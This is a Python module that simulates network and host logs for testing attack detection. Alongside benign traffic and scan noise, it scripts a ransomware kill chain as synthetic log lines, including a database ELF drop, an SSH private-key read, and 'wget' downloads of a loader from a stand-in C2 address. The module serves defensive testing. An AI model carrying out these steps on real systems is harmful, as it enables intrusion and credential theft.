"""Deterministic traffic/attack simulation.

Each agent expands into a list of timed events using its own
string-seeded generator, so streams are bit-reproducible per scenario
seed and insensitive to agent list refactoring.  Events merge into one
time-ordered stream keyed by (offset, agent index, per-agent sequence).

Record grammar is co-designed with the default symbol registry: every
message an agent emits matches exactly one registry rule (or none, for
deliberate background chatter).
"""

from __future__ import annotations

import heapq
import ipaddress
import json
import math
import random
import time
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Callable, Iterable, Iterator, Optional

from .parsing import SYSLOG_FORMAT, ZEEK_FORMAT, format_syslog, format_zeek_notice, zeek_header
from .scenario import ATTACK_KINDS, AgentSpec, InvalidScenario, Scenario, Topology
from .types import EntityKey, IncidentReport, RawLogRecord, SourceMonitor


@dataclass
class SimEvent:
    offset: float
    agent_index: int
    seq: int
    record: RawLogRecord
    format: str
    kind: str

    def sort_key(self) -> tuple[float, int, int]:
        return (self.offset, self.agent_index, self.seq)


@dataclass
class SimulationResult:
    scenario: Scenario
    records: list[RawLogRecord]
    formats: list[str]
    kinds: list[str]
    incidents: list[IncidentReport]

    def attack_indices(self) -> set[int]:
        return {i for i, kind in enumerate(self.kinds) if kind in ATTACK_KINDS}

    def wire_lines(self) -> list[tuple[str, str]]:
        """(format, line) pairs in stream order, as a gateway would see them."""
        out = []
        for record, fmt in zip(self.records, self.formats):
            line = format_zeek_notice(record) if fmt == ZEEK_FORMAT else format_syslog(record)
            out.append((fmt, line))
        return out

    def write(self, out_dir: Path | str) -> None:
        out = Path(out_dir)
        out.mkdir(parents=True, exist_ok=True)
        wire = self.wire_lines()

        notice_lines = [zeek_header()]
        syslog_lines = []
        stream_lines = []
        for (fmt, line) in wire:
            if fmt == ZEEK_FORMAT:
                notice_lines.append(line)
            else:
                syslog_lines.append(line)
            stream_lines.append(json.dumps({"format": fmt, "line": line}))
        (out / "notices.tsv").write_text("\n".join(notice_lines) + "\n", encoding="utf-8")
        (out / "syslog.log").write_text("\n".join(syslog_lines) + "\n" if syslog_lines else "", encoding="utf-8")
        (out / "stream.jsonl").write_text("\n".join(stream_lines) + "\n", encoding="utf-8")
        truth = {
            "kinds": self.kinds,
            "incidents": [
                {
                    "incident_id": inc.incident_id,
                    "involved_entities": sorted(e.identity_str() for e in inc.involved_entities),
                    "window": [inc.time_window[0].isoformat(), inc.time_window[1].isoformat()],
                    "narrative": inc.narrative,
                }
                for inc in self.incidents
            ],
        }
        (out / "truth.json").write_text(json.dumps(truth, indent=2) + "\n", encoding="utf-8")
        self.scenario.save(out / "scenario.json")

        # Connection table for graph rendering: one src/dst row per network record.
        flow_lines = ["src\tdst"]
        for record in self.records:
            src = record.extras.get("id.orig_h")
            dst = record.extras.get("id.resp_h")
            if src and dst:
                flow_lines.append(f"{src}\t{dst}")
        (out / "flows.tsv").write_text("\n".join(flow_lines) + "\n", encoding="utf-8")


def load_incidents(path: Path | str) -> list[IncidentReport]:
    doc = json.loads(Path(path).read_text(encoding="utf-8"))
    out = []
    for row in doc["incidents"]:
        out.append(
            IncidentReport(
                incident_id=row["incident_id"],
                involved_entities=frozenset(
                    EntityKey.from_identity_str(s) for s in row["involved_entities"]
                ),
                time_window=(
                    datetime.fromisoformat(row["window"][0]),
                    datetime.fromisoformat(row["window"][1]),
                ),
                narrative=row.get("narrative", ""),
            )
        )
    return out


# --- agents -------------------------------------------------------------

def _agent_rng(scenario: Scenario, index: int, spec: AgentSpec) -> random.Random:
    # String seeding hashes via SHA-512, stable across processes.
    return random.Random(f"{scenario.seed}/{index}/{spec.kind}")


def _zeek_record(
    ts: datetime, rng: random.Random, orig: str, resp: str, note: str, msg: str
) -> RawLogRecord:
    return RawLogRecord(
        timestamp=ts,
        source_monitor=SourceMonitor.ZEEK_NOTICE,
        host=resp,
        message=msg,
        extras={
            "uid": f"C{rng.getrandbits(40):010x}",
            "id.orig_h": orig,
            "id.resp_h": resp,
            "note": note,
        },
    )


def _syslog_record(ts: datetime, host: str, msg: str) -> RawLogRecord:
    # Syslog carries whole seconds only; truncate so emit/parse round-trips.
    return RawLogRecord(
        timestamp=ts.replace(microsecond=0),
        source_monitor=SourceMonitor.SYSLOG,
        host=host,
        message=msg,
    )


def _gen_mass_scanner(scenario: Scenario, index: int, spec: AgentSpec) -> list[SimEvent]:
    rng = _agent_rng(scenario, index, spec)
    src = spec.params["source_ip"]
    rate = float(spec.params["rate_per_hour"])
    seconds = scenario.duration.total_seconds()
    count = int(rate * seconds / 3600.0)
    interval = seconds / count if count else seconds
    net = scenario.topology.internal_net
    hosts = net.num_addresses
    events = []
    for i in range(count):
        offset = i * interval
        dst = str(ipaddress.ip_address(int(net.network_address) + rng.randrange(hosts)))
        n_ports = rng.randrange(10, 40)
        msg = f"{src} scanned at least {n_ports} unique ports of host {dst} in 0m{rng.randrange(1, 9)}s"
        record = _zeek_record(
            scenario.start + timedelta(seconds=offset), rng, src, dst, "Scan::Port_Scan", msg
        )
        events.append(SimEvent(offset, index, i, record, ZEEK_FORMAT, spec.kind))
    return events


_GUESS_USERS = ("admin", "root", "test", "oracle", "postgres", "pi")
_PROBE_PATHS = ("/phpmyadmin/index.php", "/wp-login.php", "/.env", "/admin/config.php")


def _gen_noise_attacker(scenario: Scenario, index: int, spec: AgentSpec) -> list[SimEvent]:
    rng = _agent_rng(scenario, index, spec)
    seconds = scenario.duration.total_seconds()
    count = int(float(spec.params["rate_per_hour"]) * seconds / 3600.0)
    pool_net = ipaddress.ip_network(spec.params.get("pool_cidr", "198.51.100.0/24"))
    # Pool starts at .100 to stay clear of the low addresses other agents use.
    pool = [
        str(ipaddress.ip_address(int(pool_net.network_address) + 100 + k))
        for k in range(int(spec.params.get("source_pool", 8)))
    ]
    offsets = sorted(rng.uniform(0.0, seconds - 1.0) for _ in range(count))
    events = []
    for i, offset in enumerate(offsets):
        src = pool[rng.randrange(len(pool))]
        if rng.random() < 0.5:
            # Syslog carries whole seconds, so the merge key must be floored
            # too or the emitted stream loses timestamp order.
            offset = float(math.floor(offset))
            user = _GUESS_USERS[rng.randrange(len(_GUESS_USERS))]
            msg = (
                f"sshd[{rng.randrange(1000, 30000)}]: Failed password for invalid user {user} "
                f"from {src} port {rng.randrange(30000, 60000)} ssh2"
            )
            ts = scenario.start + timedelta(seconds=offset)
            record = _syslog_record(ts, f"login-{1 + rng.randrange(4)}", msg)
            events.append(SimEvent(offset, index, i, record, SYSLOG_FORMAT, spec.kind))
        else:
            path = _PROBE_PATHS[rng.randrange(len(_PROBE_PATHS))]
            msg = f"GET {path} from {src} returned 404"
            ts = scenario.start + timedelta(seconds=offset)
            record = _zeek_record(ts, rng, src, "10.150.1.10", "HTTP::Probe", msg)
            events.append(SimEvent(offset, index, i, record, ZEEK_FORMAT, spec.kind))
    return events


def _gen_legit_user(scenario: Scenario, index: int, spec: AgentSpec) -> list[SimEvent]:
    rng = _agent_rng(scenario, index, spec)
    user = spec.params["user"]
    src = spec.params["source_ip"]
    host = spec.params["host"]
    sessions = int(spec.params.get("sessions", 3))
    jobs = int(spec.params.get("jobs_per_session", 2))
    seconds = scenario.duration.total_seconds()
    events = []
    seq = 0

    def emit(offset: float, msg: str) -> None:
        nonlocal seq
        offset = float(math.floor(offset))  # whole-second wire format
        ts = scenario.start + timedelta(seconds=offset)
        events.append(SimEvent(offset, index, seq, _syslog_record(ts, host, msg), SYSLOG_FORMAT, spec.kind))
        seq += 1

    slot = seconds / sessions
    for s in range(sessions):
        at = s * slot + rng.uniform(0.0, slot * 0.3)
        pid = rng.randrange(100, 9000)
        emit(at, f"sshd[{pid}]: Accepted publickey for {user} from {src} port {rng.randrange(40000, 60000)} ssh2")
        for _ in range(jobs):
            at += rng.uniform(60.0, 500.0)
            if at >= seconds - 2:
                break
            emit(at, f"slurmctld: job {rng.randrange(1000, 99999)} submitted by {user} partition {'gpu' if rng.random() < 0.4 else 'cpu'}")
        at += rng.uniform(30.0, 300.0)
        if at < seconds - 1:
            emit(at, f"sshd[{pid}]: session closed for user {user}")
    return events


RANSOMWARE_STEPS = (
    "port_probe_burst",
    "version_recon",
    "payload_staging",
    "file_drop",
    "c2_beacon",
    "key_harvest_fanout",
    "loader_download",
)


def ransomware_script() -> tuple[str, ...]:
    """The scripted kill chain, in execution order."""
    return RANSOMWARE_STEPS


def _gen_ransomware(scenario: Scenario, index: int, spec: AgentSpec) -> tuple[list[SimEvent], IncidentReport]:
    rng = _agent_rng(scenario, index, spec)
    topo = scenario.topology
    attacker = spec.params["attacker_ip"]
    entry = int(spec.params.get("entry_point", 0))
    entry_ip = topo.entry_host_ip(entry)
    entry_host = topo.entry_host_name(entry)
    c2 = spec.params.get("c2_ip", "198.51.100.23")
    fan_out = int(spec.params.get("fan_out", 4))
    if fan_out > len(topo.known_hosts):
        raise InvalidScenario(
            f"fan_out {fan_out} exceeds the {len(topo.known_hosts)} known hosts in the topology"
        )
    mu = float(spec.params.get("gap_mu", 3.5))
    sigma = float(spec.params.get("gap_sigma", 0.8))

    def gap() -> float:
        # Manual-phase pacing: heavy-tailed, never sub-second.
        return max(1.0, rng.lognormvariate(mu, sigma))

    at = float(spec.params.get("start_offset_seconds", 1200.0))
    events: list[SimEvent] = []
    seq = 0

    def emit(record: RawLogRecord, fmt: str, offset: float) -> None:
        nonlocal seq
        if fmt == SYSLOG_FORMAT:
            # Keep the merge key aligned with the whole-second wire
            # timestamp; script gaps are >= 1s so step order is unaffected.
            offset = float(math.floor(offset))
        events.append(SimEvent(offset, index, seq, record, fmt, spec.kind))
        seq += 1

    def ts_at(offset: float) -> datetime:
        return scenario.start + timedelta(seconds=offset)

    # 1: repeated probes of the database port.
    for _ in range(6):
        msg = f"{attacker} attempted {rng.randrange(3, 9)} connections to {entry_ip} on port 5432/tcp"
        emit(_zeek_record(ts_at(at), rng, attacker, entry_ip, "Conn::Retry", msg), ZEEK_FORMAT, at)
        at += rng.uniform(1.0, 4.0)

    # 2: service version reconnaissance.
    at += gap()
    emit(_syslog_record(ts_at(at), entry_host, f"postgres[900]: client {attacker} executed: SHOW server_version_num"), SYSLOG_FORMAT, at)

    # 3: ELF payload staged as a hex large object (7F454C46 = 0x7F 'E' 'L' 'F').
    at += gap()
    emit(_syslog_record(ts_at(at), entry_host, f"postgres[900]: client {attacker} wrote largeobject with header 7F454C46"), SYSLOG_FORMAT, at)

    # 4: dropped to disk server-side via the export command.
    at += gap()
    emit(_syslog_record(ts_at(at), entry_host, f"postgres[900]: client {attacker} executed: SELECT io_export(16391, '/tmp/kp')"), SYSLOG_FORMAT, at)

    # 5: command-and-control beacon from the compromised host.
    at += gap()
    beacon_msg = f"{entry_ip} established periodic outbound connection to {c2}:8443 (interval 60s)"
    emit(_zeek_record(ts_at(at), rng, entry_ip, c2, "CallsHome::Beacon", beacon_msg), ZEEK_FORMAT, at)

    # 6: key harvest, then SSH fan-out to harvested known hosts.
    at += gap()
    emit(_syslog_record(ts_at(at), entry_host, "auditd: process 4411 read ssh private key /home/backup/.ssh/id_rsa"), SYSLOG_FORMAT, at)
    for kh in topo.known_hosts[:fan_out]:
        at += rng.uniform(5.0, 15.0)
        msg = f"ssh lateral movement from {entry_ip} to {kh}"
        emit(_zeek_record(ts_at(at), rng, entry_ip, kh, "SSH::Lateral", msg), ZEEK_FORMAT, at)

    # 7: loader and payload downloads on the foothold.
    at += gap()
    emit(_syslog_record(ts_at(at), entry_host, f'wget {c2}/ldr.sh (200 "OK" [1124]'), SYSLOG_FORMAT, at)
    at += rng.uniform(2.0, 8.0)
    emit(_syslog_record(ts_at(at), entry_host, f'wget {c2}/sys.x86_64 (200 "OK" [88732]'), SYSLOG_FORMAT, at)

    if at >= scenario.duration.total_seconds():
        raise InvalidScenario("ransomware script does not fit inside the scenario duration")

    start_ts = events[0].record.timestamp - timedelta(seconds=60)
    end_ts = events[-1].record.timestamp + timedelta(seconds=60)
    incident = IncidentReport(
        incident_id=f"IR-{attacker}",
        involved_entities=frozenset(
            {
                EntityKey(source_ip=attacker),
                EntityKey(source_ip=entry_ip),
                EntityKey(host=entry_host),
                EntityKey(source_ip=c2),
            }
        ),
        time_window=(start_ts, end_ts),
        narrative=f"scripted database intrusion against {entry_host} ({entry_ip}) from {attacker}",
    )
    return events, incident


_GENERATORS: dict[str, Callable] = {
    "mass_scanner": _gen_mass_scanner,
    "noise_attacker": _gen_noise_attacker,
    "legit_user": _gen_legit_user,
}


def run(scenario: Scenario) -> SimulationResult:
    """Expand every agent and merge events into one time-ordered stream."""
    per_agent: list[list[SimEvent]] = []
    incidents: list[IncidentReport] = []
    for index, spec in enumerate(scenario.agents):
        if spec.kind == "ransomware":
            events, incident = _gen_ransomware(scenario, index, spec)
            incidents.append(incident)
        else:
            events = _GENERATORS[spec.kind](scenario, index, spec)
        per_agent.append(sorted(events, key=SimEvent.sort_key))

    merged = list(heapq.merge(*per_agent, key=SimEvent.sort_key))
    return SimulationResult(
        scenario=scenario,
        records=[e.record for e in merged],
        formats=[e.format for e in merged],
        kinds=[e.kind for e in merged],
        incidents=incidents,
    )


def replay(
    items: Iterable[tuple[str, str]],
    timestamps: Iterable[datetime],
    speed: float = math.inf,
    sleep: Callable[[float], None] = time.sleep,
) -> Iterator[tuple[str, str]]:
    """Emit (format, line) pairs paced at 1/speed of recorded gaps.

    speed=inf plays back as fast as the consumer accepts, preserving
    order; finite speeds sleep between emissions.
    """
    if speed <= 0:
        raise ValueError("speed must be positive")
    previous: Optional[datetime] = None
    for item, ts in zip(items, timestamps):
        if previous is not None and math.isfinite(speed):
            gap = (ts - previous).total_seconds() / speed
            if gap > 0:
                sleep(gap)
        previous = ts
        yield item
